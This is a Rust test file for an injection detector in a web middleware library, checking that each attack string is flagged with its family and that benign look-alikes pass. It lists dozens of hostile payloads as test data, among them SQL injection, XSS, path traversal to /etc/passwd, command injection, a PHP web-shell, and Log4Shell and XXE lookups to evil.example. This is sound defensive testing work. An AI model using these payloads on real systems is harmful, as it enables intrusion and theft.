//! Per-family detection checks on hand-written payloads and benign look-alikes, through
//! the standalone [`Detector`]. Self-contained: the corpus measurements live in the
//! `injection_eval` example.
#![cfg(feature = "injection")]

use bytes::Bytes;
use http::Request;
use tower_fortify::{
    event::Category,
    injection::{detect_all, Detector, Profile},
};

fn query(detector: &Detector, encoded: &str) -> (bool, Vec<Category>) {
    let req = Request::get(format!("/search?q={encoded}"))
        .body(Bytes::new())
        .unwrap();
    let v = detector.inspect(&req);
    (v.flagged, v.categories())
}

fn enc(s: &str) -> String {
    s.bytes().map(|b| format!("%{b:02X}")).collect()
}

#[test]
fn attacks_are_flagged_with_their_family() {
    let detector = Detector::builder().build().unwrap();
    let cases: &[(&str, Category)] = &[
        ("1' OR '1'='1", Category::Sqli),
        ("1 UNION/**/SELECT password FROM users", Category::Sqli),
        ("1/*!50000UNION*/ SELECT 1,2", Category::Sqli),
        ("'; WAITFOR DELAY '0:0:5'--", Category::Sqli),
        ("1 AND SLEEP(5)", Category::Sqli),
        ("admin'--", Category::Sqli),
        (
            "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
            Category::Xss,
        ),
        ("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", Category::Xss),
        ("\" onmouseover=\"alert(1)", Category::Xss),
        ("<svg/onload=alert(1)>", Category::Xss),
        // Any `on...=` handler, however long its (vendor) event name.
        (
            "\" onwebkitcurrentplaybacktargetiswirelesschanged=x",
            Category::Xss,
        ),
        ("' onanyfutureeventname=go()", Category::Xss),
        (
            "<?import namespace=\"t\" implementation=\"#default#time2\">",
            Category::Xss,
        ),
        (
            "<!DOCTYPE d [<!ENTITY % e SYSTEM \"http://evil.example/x.dtd\">%e;]>",
            Category::Xss,
        ),
        ("../../../../etc/passwd", Category::PathTraversal),
        ("..%c0%af..%c0%afetc%c0%afpasswd", Category::PathTraversal),
        ("..\\..\\windows\\win.ini", Category::PathTraversal),
        ("x; cat /etc/passwd", Category::CommandInjection),
        ("$(whoami)", Category::CommandInjection),
        ("`id`", Category::CommandInjection),
        ("a|c'a't /e't'c/pass'w'd", Category::CommandInjection),
        ("& powershell -enc SQBFAFgA", Category::CommandInjection),
        ("() { :; }; /bin/bash -c id", Category::CommandInjection),
        ("<?php system($_GET['c']); ?>", Category::PhpInjection),
        (
            "php://filter/convert.base64-encode/resource=index.php",
            Category::PhpInjection,
        ),
        ("${jndi:ldap://evil.example/a}", Category::JavaInjection),
        (
            "${${lower:j}${lower:n}di:rmi://x/y}",
            Category::JavaInjection,
        ),
        ("{{7*7}}", Category::GenericInjection),
        (
            "{{config.__class__.__init__.__globals__}}",
            Category::GenericInjection,
        ),
        (
            "http://169.254.169.254/latest/meta-data/",
            Category::GenericInjection,
        ),
        (
            "http://192.0.2.10/shell.txt?",
            Category::RemoteFileInclusion,
        ),
    ];
    for (payload, family) in cases {
        let (flagged, categories) = query(&detector, &enc(payload));
        assert!(flagged, "not flagged: {payload}");
        assert!(
            categories.contains(family),
            "{payload}: {categories:?} lacks {family:?}"
        );
    }
}

#[test]
fn benign_look_alikes_pass_in_the_balanced_profile() {
    let detector = Detector::builder().build().unwrap();
    let benign = [
        "O'Brien",
        "2104 GRANT AVE #A",
        "Yahoo! (Y!)",
        "I have read and agree to the <a href=\"/privacy\">privacy policy</a>",
        "Fish & Chips",
        "Tom & Jerry; the movie",
        "select a size from the list",
        "rock 'n' roll",
        "C:\\Users\\ann\\Documents",
        "1-2 or 3 days",
        "café crème, 2 × 250 g",
        "東京都港区",
        "user@example.com",
        "price < 10 and rating > 4",
        "Please update your profile",
        "It's 5 o'clock",
        "id",
        "ls",
    ];
    for value in benign {
        let (flagged, categories) = query(&detector, &enc(value));
        assert!(!flagged, "flagged {value:?} as {categories:?}");
    }
}

#[test]
fn the_strict_profile_adds_rules_the_balanced_one_lacks() {
    let balanced = Detector::builder().build().unwrap();
    let strict = Detector::builder()
        .profile(Profile::Strict)
        .build()
        .unwrap();
    for payload in ["x IS NOT NULL", "COUNT(", "&&(l=!0)"] {
        assert!(
            !query(&balanced, &enc(payload)).0,
            "balanced flagged {payload}"
        );
        assert!(query(&strict, &enc(payload)).0, "strict missed {payload}");
    }
}

#[test]
fn findings_carry_sanitised_evidence() {
    let findings = detect_all("<script>alert(document.cookie)</script>");
    assert!(!findings.is_empty());
    for f in &findings {
        assert!(
            !f.evidence.contains('<') && !f.evidence.contains('"'),
            "{f:?}"
        );
        assert!(f.evidence.chars().count() <= 40);
        assert_eq!(&*f.location, "value");
    }
}
